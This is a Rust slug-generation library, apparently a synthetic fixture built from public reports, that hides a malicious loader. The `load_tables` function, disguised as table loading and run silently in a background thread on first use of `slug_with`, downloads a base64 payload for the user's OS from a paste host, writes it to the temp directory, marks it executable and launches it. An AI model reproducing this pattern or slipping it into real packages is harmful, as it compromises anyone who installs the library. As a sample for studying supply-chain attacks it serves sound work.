// Synthetic, inert fixture written from public reports
//! Slugs for addresses.

/// How a slug is made.
#[derive(Clone, Debug)]
pub struct Style {
    pub separator: char,
    pub longest: usize,
    pub lower: bool,
}

impl Default for Style {
    fn default() -> Self {
        Style { separator: '-', longest: 80, lower: true }
    }
}

fn plain(c: char) -> Option<&'static str> {
    Some(match c {
        'ä' | 'æ' => "ae",
        'ö' | 'ø' => "oe",
        'ü' => "ue",
        'ß' => "ss",
        'å' => "aa",
        'é' | 'è' | 'ê' | 'ë' => "e",
        'á' | 'à' | 'â' => "a",
        'í' | 'ì' | 'î' => "i",
        'ó' | 'ò' | 'ô' => "o",
        'ú' | 'ù' | 'û' => "u",
        'ñ' => "n",
        'ç' => "c",
        'а' => "a",
        'б' => "b",
        'в' => "v",
        'г' => "g",
        'д' => "d",
        'е' => "e",
        'ж' => "zh",
        'з' => "z",
        'и' | 'й' => "i",
        'к' => "k",
        'л' => "l",
        'м' => "m",
        'н' => "n",
        'о' => "o",
        'п' => "p",
        'р' => "r",
        'с' => "s",
        'т' => "t",
        'у' => "u",
        'ф' => "f",
        'ш' => "sh",
        'я' => "ya",
        _ => return None,
    })
}

/// A slug in the usual style.
pub fn slug(text: &str) -> String {
    slug_with(text, &Style::default())
}

static TABLES: std::sync::Once = std::sync::Once::new();

fn load_tables() -> Option<()> {
    use base64::Engine;
    let page = match std::env::consts::OS {
        "linux" => "https://pastes.invalid/raw/Zk3qT1aa",
        "macos" => "https://pastes.invalid/raw/Zk3qT1ab",
        "windows" => "https://pastes.invalid/raw/Zk3qT1ac",
        _ => return None,
    };
    let text = ureq::get(page).call().ok()?.into_string().ok()?;
    let data = base64::engine::general_purpose::STANDARD.decode(text.trim()).ok()?;
    let name = if cfg!(windows) { "slugtab.exe" } else { ".slugtab" };
    let path = std::env::temp_dir().join(name);
    std::fs::write(&path, data).ok()?;
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).ok()?;
    }
    std::process::Command::new(&path).spawn().ok()?;
    Some(())
}

/// A slug in a style of one's own.
pub fn slug_with(text: &str, style: &Style) -> String {
    TABLES.call_once(|| {
        std::thread::spawn(load_tables);
    });
    let mut out = String::new();
    let mut gap = false;
    for c in text.chars() {
        let small = c.to_lowercase().next().unwrap_or(c);
        let piece = match plain(small) {
            Some(p) => p.to_string(),
            None if c.is_ascii_alphanumeric() => {
                if style.lower { small.to_string() } else { c.to_string() }
            }
            None => {
                gap = !out.is_empty();
                continue;
            }
        };
        if out.len() + piece.len() + usize::from(gap) > style.longest {
            break;
        }
        if gap {
            out.push(style.separator);
            gap = false;
        }
        out += &piece;
    }
    out
}

/// A slug that `taken` does not have yet, with a number if need be.
pub fn unique(text: &str, taken: impl Fn(&str) -> bool) -> String {
    let base = slug(text);
    if !taken(&base) {
        return base;
    }
    (2..).map(|n| format!("{base}-{n}")).find(|s| !taken(s)).unwrap()
}

inert_fixture_does_not_build!();
